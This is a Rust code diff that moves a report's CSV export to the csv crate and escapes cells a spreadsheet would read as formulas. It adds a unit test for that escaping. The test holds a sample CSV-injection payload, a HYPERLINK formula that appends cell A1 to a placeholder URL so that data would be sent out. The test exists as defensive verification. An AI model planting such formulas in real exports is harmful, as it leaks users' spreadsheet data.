@@ -252,11 +252,10 @@ fn by_name(by: By) -> &'static str {
     }
 }
 
-fn csv_field(s: &str) -> String {
-    if s.contains([',', '"', '\n']) { format!("\"{}\"", s.replace('"', "\"\"")) } else { s.to_string() }
-}
-
-/// The table as CSV: one row per group, counters then KPIs (value and target).
+/// The table as CSV (written by the `csv` crate): one row per group,
+/// counters then KPIs (value and target). A text cell that a spreadsheet
+/// would take for a formula (a unit's official name beginning with `=`,
+/// say) is written with a leading `'` ([`crate::export::csv_cell`]).
 pub fn to_csv(t: &Value, kpis: &[Kpi]) -> String {
     let mut header: Vec<String> = vec!["group".into(), "name".into(), "rank".into()];
     header.extend(Counter::ALL.iter().map(|c| c.as_str().to_string()));
@@ -266,9 +265,8 @@ pub fn to_csv(t: &Value, kpis: &[Kpi]) -> String {
         header.push(k.as_str().into());
         header.push(format!("{}_target", k.as_str()));
     }
-    let mut out = header.join(",") + "\n";
-    let line = |group: &str, name: &str, rank: &Value, row: &Value| -> String {
-        let mut cells = vec![csv_field(group), csv_field(name), rank.as_u64().map(|r| r.to_string()).unwrap_or_default()];
+    let line = |group: &str, name: &str, rank: &Value, row: &Value| -> Vec<String> {
+        let mut cells = vec![group.to_string(), name.to_string(), rank.as_u64().map(|r| r.to_string()).unwrap_or_default()];
         for c in Counter::ALL {
             cells.push(row["counts"][c.as_str()].to_string());
         }
@@ -279,13 +277,19 @@ pub fn to_csv(t: &Value, kpis: &[Kpi]) -> String {
             cells.push(v["value"].as_f64().map(|x| format!("{x:.4}")).unwrap_or_default());
             cells.push(v["target"]["value"].as_f64().map(|x| format!("{x:.4}")).unwrap_or_default());
         }
-        cells.join(",") + "\n"
+        cells
     };
+    let mut rows = vec![header];
     for r in t["rows"].as_array().into_iter().flatten() {
-        out += &line(r["group"].as_str().unwrap_or(""), r["name"].as_str().unwrap_or(""), &r["rank"], r);
+        rows.push(line(r["group"].as_str().unwrap_or(""), r["name"].as_str().unwrap_or(""), &r["rank"], r));
     }
-    out += &line("total", t["scope_name"].as_str().unwrap_or(""), &Value::Null, &t["total"]);
-    out
+    rows.push(line("total", t["scope_name"].as_str().unwrap_or(""), &Value::Null, &t["total"]));
+    let mut w = csv::Writer::from_writer(Vec::new());
+    for row in rows {
+        // Writing to memory cannot fail.
+        let _ = w.write_record(row.iter().map(|c| crate::export::csv_cell(c).into_owned()));
+    }
+    String::from_utf8(w.into_inner().unwrap_or_default()).unwrap_or_default()
 }
 
 /// A unit's own counters for one month (all categories and channels).
@@ -358,4 +362,26 @@ pub fn report_due(store: &Store, policy: &zongzhi_protocol::Policy, now: u64) ->
     }
     let prev = if month_now % 100 == 1 { (month_now / 100 - 1) * 100 + 12 } else { month_now - 1 };
     Ok(store.meta_get(&signed_marker(prev))?.is_none().then_some(prev))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// A unit's official name comes from its enrollment request: one that
+    /// a spreadsheet would run as a formula is exported as text, and every
+    /// cell round-trips through a CSV reader.
+    #[test]
+    fn a_name_that_looks_like_a_formula_is_exported_as_text() {
+        let evil = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"点击\")";
+        let row = |group: &str, name: &str| json!({"group": group, "name": name, "rank": 1, "counts": {}, "kpis": {}});
+        let t = json!({"rows": [row("330106010001", evil), row("330106010002", "+1, \"quoted\"\nline")], "scope_name": "@total", "total": {"counts": {}, "kpis": {}}});
+        let text = to_csv(&t, &[Kpi::Satisfaction]);
+        let rows: Vec<Vec<String>> = csv::Reader::from_reader(text.as_bytes()).records().map(|r| r.unwrap().iter().map(String::from).collect()).collect();
+        assert_eq!(rows.len(), 3, "{text}");
+        assert_eq!(rows[0][1], format!("'{evil}"));
+        assert_eq!(rows[1][1], "'+1, \"quoted\"\nline");
+        assert_eq!((rows[2][0].as_str(), rows[2][1].as_str()), ("total", "'@total"));
+        assert!(rows.iter().all(|r| !r.iter().any(|c| c.starts_with(['=', '+', '-', '@']))), "{text}");
+    }
 }
